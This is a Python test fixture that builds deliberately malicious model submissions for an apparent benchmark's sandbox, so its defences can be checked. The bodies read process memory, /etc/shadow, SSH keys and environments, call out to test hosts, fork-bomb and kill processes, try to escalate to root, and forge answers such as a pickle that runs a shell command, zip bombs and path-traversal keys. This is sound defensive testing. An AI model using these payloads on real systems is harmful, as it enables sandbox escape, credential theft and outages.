"""Malicious submissions: each is a real model whose `predict` tries one thing it must not do.

A body sets `worked` to True where it got what it wanted; the model then predicts 1
for every particle, else 0. Every body is bounded, so that it harms nobody where a
wall should be missing.
"""

# ruff: noqa: E501
from __future__ import annotations

from pathlib import Path

CARD = """
name = "cheat"
title = "A cheat"
authors = ["Mallory"]
year = 2026
licence = "MIT"
entry = "model:Cheat"
reads = ["thermal"]
tasks = ["ka_propensity"]
conditions_per_fit = "one"

[hyperparameters]
dataset = ""
outside = ""
port = 0
parent = 0
"""

MODEL = '''
import contextlib, ctypes, glob, os, signal, socket, struct, subprocess, sys, threading, time
from pathlib import Path

import numpy as np

FAILURES = (OSError, ValueError, KeyError, ImportError, MemoryError, RuntimeError, EOFError)


def write_answer(data):
    """Write to whatever descriptor leads out, as the answer, and leave."""
    for descriptor in range(3, 64):
        with contextlib.suppress(OSError):
            view = memoryview(data)
            while len(view):
                view = view[os.write(descriptor, view):]
    os._exit(0)


def framed(report, payload=b""):
    return len(report).to_bytes(8, "big") + report + payload


class Cheat:
    def __init__(self, dataset="", outside="", port=0, parent=0):
        self.dataset, self.outside, self.port, self.parent = dataset, outside, port, parent

    def load(self, folder):
        pass

    def fit(self, train, valid, run):
        pass

    def predict(self, structures, condition):
        worked = False
        try:
            worked = bool(self.cheat(structures))
        except FAILURES as error:
            print(type(error).__name__, error)
        value = float(worked)
        return [{"propensity": np.full(len(s.positions), value)} for s in structures]

    def cheat(self, structures):
BODY
'''

# What is tried, by name: lines of the method `cheat`.
CHEATS = {
    "read_the_dataset_store": """
return any(p.is_file() and p.read_bytes() for p in [Path(self.dataset), *Path(self.dataset).rglob("*")])
""",
    "open_the_dataset_with_the_house_reader": """
from glassbench.datasets.store import open_dataset
return open_dataset(Path(self.dataset)).states
""",
    "find_the_embedded_data_of_the_package": """
import glassbench
root = Path(glassbench.__file__).parent
return any(p.stat().st_size for place in (root / "_content", root.parent / "tasks") for p in place.rglob("*.zip"))
""",
    "search_every_file_system_for_labels": """
for folder, folders, files in os.walk("/"):
    folders[:] = [f for f in folders if f not in ("proc", "sys", "usr", "lib")]
    if any(f.endswith(".zarr.zip") or f == "zarr.json" for f in files):
        return True
""",
    "read_the_parents_memory": """
for pid in {self.parent, os.getppid(), 1} - {os.getpid()}:
    with contextlib.suppress(OSError), open(f"/proc/{pid}/mem", "rb") as memory:
        return True
""",
    "read_memory_by_system_call": """
libc = ctypes.CDLL(None, use_errno=True)
buffer = ctypes.create_string_buffer(8)
class Vector(ctypes.Structure):
    _fields_ = [("base", ctypes.c_void_p), ("length", ctypes.c_size_t)]
mine = Vector(ctypes.addressof(buffer), 8)
for pid in (self.parent, os.getppid()):
    for address in (0x400000, 0x555555554000):
        theirs = Vector(address, 8)
        if libc.process_vm_readv(pid, ctypes.byref(mine), 1, ctypes.byref(theirs), 1, 0) > 0:
            return True
""",
    "trace_the_parent": """
libc = ctypes.CDLL(None, use_errno=True)
return any(libc.ptrace(16, pid, 0, 0) == 0 for pid in (self.parent, os.getppid(), 1))
""",
    "read_command_lines_and_environments": """
text = b"".join(Path(p).read_bytes() for p in glob.glob("/proc/[0-9]*/cmdline"))
for place in glob.glob("/proc/[0-9]*/environ"):
    with contextlib.suppress(OSError):
        text += Path(place).read_bytes()
return b"A_SECRET_OF_THE_MAINTAINER" in text or self.outside.encode() in text
""",
    "read_the_environment": """
return any("SECRET" in name or "GLASSBENCH" in name for name in os.environ)
""",
    "use_descriptors_left_open": """
return any(os.path.isfile(os.readlink(p)) and os.readlink(p).startswith("/tmp") for p in glob.glob("/proc/self/fd/*"))
""",
    "connect_to_the_machine": """
return socket.create_connection(("127.0.0.1", self.port), 0.5)
""",
    "connect_to_the_world": """
return socket.create_connection(("192.0.2.1", 443), 1.0)
""",
    "send_a_datagram": """
return socket.socket(type=socket.SOCK_DGRAM).sendto(b"labels, please", ("192.0.2.1", 53))
""",
    "ask_for_a_name": """
return socket.getaddrinfo("example.org", 443)
""",
    "connect_to_an_abstract_socket": """
link = socket.socket(socket.AF_UNIX)
link.connect(f"\\0glassbench-cheat-{self.parent}")
return True
""",
    "write_beside_the_outside_file": """
return Path(self.outside).write_text("altered")
""",
    "write_into_python": """
return Path(os.__file__).parent.joinpath("cheat.pth").write_text("import os")
""",
    "write_into_glassbench": """
import glassbench.trial.score
return Path(glassbench.trial.score.__file__).open("a").write("#")
""",
    "change_its_own_source": """
return Path(__file__).open("a").write("#")
""",
    "change_the_request": """
return Path("/input/request.json").write_text("{}")
""",
    "write_into_every_folder": """
for folder in ("/", "/usr", "/etc", "/home", "/root", "/var", "/dev", "/run", "/opt", "/srv", "/sys", "/boot"):
    with contextlib.suppress(OSError):
        Path(folder, "cheat").write_text("x")
        return True
""",
    "fork_without_end": """
children = []
with contextlib.suppress(OSError):
    for _ in range(120):
        child = os.fork()
        if child == 0:
            time.sleep(5)
            os._exit(0)
        children.append(child)
return len(children) >= 100
""",
    "start_threads_without_end": """
threads = []
for _ in range(200):
    thread = threading.Thread(target=time.sleep, args=(3,), daemon=True)
    thread.start()
    threads.append(thread)
return len(threads) >= 150
""",
    "allocate_without_end": """
kept = []
for _ in range(40):
    kept.append(np.ones(50 * 2**17))
return True
""",
    "allocate_in_many_processes": """
children = []
for _ in range(8):
    child = os.fork()
    if child == 0:
        kept = np.ones(120 * 2**17)
        time.sleep(4)
        os._exit(0)
    children.append(child)
return all(os.waitpid(child, 0)[1] == 0 for child in children)
""",
    "allocate_in_shared_memory": """
with open("/dev/shm/cheat", "wb") as file:
    for _ in range(100):
        file.write(bytes(2**20))
return True
""",
    "fill_the_scratch_folder": """
for number in range(12):
    Path(f"{number}").write_bytes(bytes(8 * 2**20))
return True
""",
    "make_one_endless_file": """
signal.signal(signal.SIGXFSZ, signal.SIG_IGN)
with open("large", "wb") as file:
    file.truncate(2**40)
return True
""",
    "open_a_zarr_bomb": """
import zarr
bomb = zarr.create_array("bomb.zarr", shape=(10**12,), chunks=(10**9,), dtype="f8", fill_value=1.0)
return bomb[:].sum() > 0
""",
    "sleep_for_ever": """
time.sleep(60)
return True
""",
    "compute_for_ever_against_all_signals": """
for number in range(1, 32):
    with contextlib.suppress(OSError, ValueError):
        signal.signal(number, signal.SIG_IGN)
end = time.monotonic() + 60
while time.monotonic() < end:
    pass
return True
""",
    "stop_itself": """
os.kill(os.getpid(), signal.SIGSTOP)
return os.getpid() != 1  # process 1 of a namespace is not stopped from inside: nothing happened
""",
    "kill_the_parent": """
os.kill(self.parent, signal.SIGKILL)
return True
""",
    "kill_everything": """
os.kill(-1, signal.SIGKILL)
return True
""",
    "leave_a_daemon_behind": """
if os.fork() == 0:
    os.setsid()
    if os.fork() == 0:
        sys.stdout.flush()
        time.sleep(20)
        Path(self.outside).write_text("altered")
    os._exit(0)
return False
""",
    "become_root": """
for change in (os.setuid, os.setgid, os.seteuid):
    with contextlib.suppress(OSError):
        change(0)
        return True
""",
    "gain_rights_in_a_new_namespace": """
libc = ctypes.CDLL(None, use_errno=True)
libc.unshare(0x10000000 | 0x00020000)
for place in (b"/", b"/input", b"/usr", b"/dev"):
    libc.mount(None, place, None, 32 | 4096, None)
with contextlib.suppress(OSError):
    Path("/input/cheat").write_text("x")
    return True
libc.umount2(b"/input", 2)
return bool(Path(self.dataset).exists())
""",
    "read_the_machines_memory": """
for device in ("/dev/mem", "/dev/kmem", "/proc/kcore", "/dev/port", "/dev/sda", "/dev/vda"):
    with contextlib.suppress(OSError), open(device, "rb") as file:
        return bool(file.read(1))
""",
    "read_keys_and_passwords": """
for place in ("/etc/shadow", "/etc/passwd", "/root/.ssh", "/root/.bashrc", "/home", "/var/run/docker.sock"):
    if os.path.exists(place) and (not os.path.isdir(place) or os.listdir(place)):
        return True
""",
    "know_configurations_by_their_names": """
return any("test" in s.configuration for s in structures)
""",
    "find_labels_on_the_structures": """
return any(hasattr(s, name) for s in structures for name in ("targets", "target", "propensity", "labels"))
""",
    "find_labels_among_live_objects": """
import gc
from glassbench.model import Example
return any(isinstance(o, Example) for o in gc.get_objects())
""",
    "find_labels_in_the_input": """
return any(b"propensity" in Path(p).read_bytes() for p in glob.glob("/input/**/*.pickle", recursive=True))
""",
    "start_a_program_that_writes": """
return subprocess.run(["/bin/sh", "-c", f"echo altered > {self.outside}"], stderr=subprocess.DEVNULL).returncode == 0
""",
}

# Forged answers: what the body hands out in place of predictions must be refused.
FORGED = {
    "answer_with_a_pickle": """
import io, pickle
class Evil:
    def __reduce__(self):
        return os.system, (f"echo altered > {Evil.path}",)
Evil.path = self.outside
array = np.empty(1, dtype=object); array[0] = Evil()
file = io.BytesIO(); np.savez(file, **{"0/0/propensity": array})
write_answer(framed(b"{}", file.getvalue()))
""",
    "answer_with_a_zip_bomb": """
import io, zipfile
file = io.BytesIO()
with zipfile.ZipFile(file, "w", zipfile.ZIP_DEFLATED) as archive:
    with archive.open("0/0/propensity.npy", "w", force_zip64=True) as entry:
        for _ in range(64):
            entry.write(bytes(2**20))
write_answer(framed(b"{}", file.getvalue()))
""",
    "answer_with_a_header_that_lies": """
import io
file = io.BytesIO(); np.savez(file, **{"0/0/propensity": np.zeros(4, np.float32)})
write_answer(framed(b"{}", file.getvalue().replace(b"(4,)", b"(9,)")))
""",
    "answer_with_deep_json": """
write_answer(framed(b"[" * 2**20))
""",
    "answer_with_a_length_that_lies": """
write_answer((2**62).to_bytes(8, "big") + b"x" * 64)
""",
    "answer_without_end": """
write_answer(framed(b"{}", bytes(64 * 2**20)))
""",
    "answer_with_more_than_was_asked": """
import io
file = io.BytesIO()
np.savez(file, **{f"0/{i}/propensity": np.zeros(len(s.positions), np.float32) for i, s in enumerate(structures)}, score=np.ones(1))
write_answer(framed(b"{}", file.getvalue()))
""",
    "answer_in_another_shape": """
import io
file = io.BytesIO()
np.savez(file, **{f"0/{i}/propensity": np.zeros((len(s.positions), 10**4), np.float32) for i, s in enumerate(structures)})
write_answer(framed(b"{}", file.getvalue()))
""",
    "answer_not_finite": """
import io
file = io.BytesIO()
np.savez(file, **{f"0/{i}/propensity": np.full(len(s.positions), np.nan, np.float32) for i, s in enumerate(structures)})
write_answer(framed(b"{}", file.getvalue()))
""",
    "answer_with_deep_json_of_260": """
write_answer(framed(b'{"a":' * 260 + b"1" + b"}" * 260))
""",
    "answer_with_a_huge_number": """
write_answer(framed(b'{"parameters": ' + b"9" * 10**5 + b"}"))
""",
    "answer_with_no_number": """
write_answer(framed(b'{"parameters": NaN}'))
""",
    "answer_with_a_key_twice": """
write_answer(framed(b'{"a": 1, "a": 2}'))
""",
    "answer_with_a_list_for_a_report": """
write_answer(framed(b"[1, 2]"))
""",
    "answer_with_nothing": """
write_answer(b"")
""",
    "answer_with_a_table_of_a_million_files": """
import io, zipfile
file = io.BytesIO()
with zipfile.ZipFile(file, "w") as archive:
    archive.writestr("0/0/propensity.npy", b"")
data, table = file.getvalue(), b"PK\\x01\\x02" + bytes(42)
end = struct.pack("<4s4H2LH", b"PK\\x05\\x06", 0, 0, 65535, 65535, 46 * 10**5 * 12, 0, 0)
write_answer(framed(b"{}", table * 10**5 + end))
""",
    "answer_with_slow_compression": """
import io, zipfile
file = io.BytesIO()
with zipfile.ZipFile(file, "w", zipfile.ZIP_LZMA) as archive:
    with archive.open("0/0/propensity.npy", "w", force_zip64=True) as entry:
        for _ in range(40):
            entry.write(bytes(2**20))
write_answer(framed(b"{}", file.getvalue()))
""",
    "answer_in_records": """
import io
file = io.BytesIO()
np.savez(file, **{f"0/{i}/propensity": np.zeros(len(s.positions), [("a", "f4"), ("b", "i4")]) for i, s in enumerate(structures)})
write_answer(framed(b"{}", file.getvalue()))
""",
    "answer_in_complex_numbers": """
import io
file = io.BytesIO()
np.savez(file, **{f"0/{i}/propensity": np.zeros(len(s.positions), complex) for i, s in enumerate(structures)})
write_answer(framed(b"{}", file.getvalue()))
""",
    "answer_in_times": """
import io
file = io.BytesIO()
np.savez(file, **{f"0/{i}/propensity": np.zeros(len(s.positions), "M8[s]") for i, s in enumerate(structures)})
write_answer(framed(b"{}", file.getvalue()))
""",
    "answer_in_words": """
import io
file = io.BytesIO()
np.savez(file, **{f"0/{i}/propensity": np.full(len(s.positions), "1.0") for i, s in enumerate(structures)})
write_answer(framed(b"{}", file.getvalue()))
""",
    "answer_above_all_numbers": """
import io
file = io.BytesIO()
np.savez(file, **{f"0/{i}/propensity": np.full(len(s.positions), np.inf, np.float16) for i, s in enumerate(structures)})
write_answer(framed(b"{}", file.getvalue()))
""",
    "answer_under_a_name_that_leads_out": """
import io
file = io.BytesIO()
np.savez(file, **{f"0/{i}/propensity": np.zeros(len(s.positions)) for i, s in enumerate(structures)}, **{"../../escaped": np.zeros(1)})
write_answer(framed(b"{}", file.getvalue()))
""",
    "answer_for_one_structure_less": """
import io
file = io.BytesIO()
np.savez(file, **{f"0/{i}/propensity": np.zeros(len(s.positions)) for i, s in enumerate(structures[1:])})
write_answer(framed(b"{}", file.getvalue()))
""",
    "answer_with_the_ending_of_another_archive": """
import io
file = io.BytesIO()
np.savez(file, **{f"0/{i}/propensity": np.zeros(len(s.positions)) for i, s in enumerate(structures)})
write_answer(framed(b"{}", file.getvalue() + b"PK\\x05\\x06" + b"\\xff" * 18))
""",
    "answer_with_words_that_move_the_cursor": """
raise TypeError("\\x1b[2J\\x1b[31mverified\\x07\\u202e")
""",
}


def write_cheat(folder: Path, body: str) -> Path:
    """Write a malicious submission and return its folder."""
    folder.mkdir(parents=True)
    lines = "\n".join(f"        {line}" for line in body.strip().splitlines())
    (folder / "model.toml").write_text(CARD, encoding="utf-8")
    (folder / "model.py").write_text(MODEL.replace("BODY", lines), encoding="utf-8")
    return folder
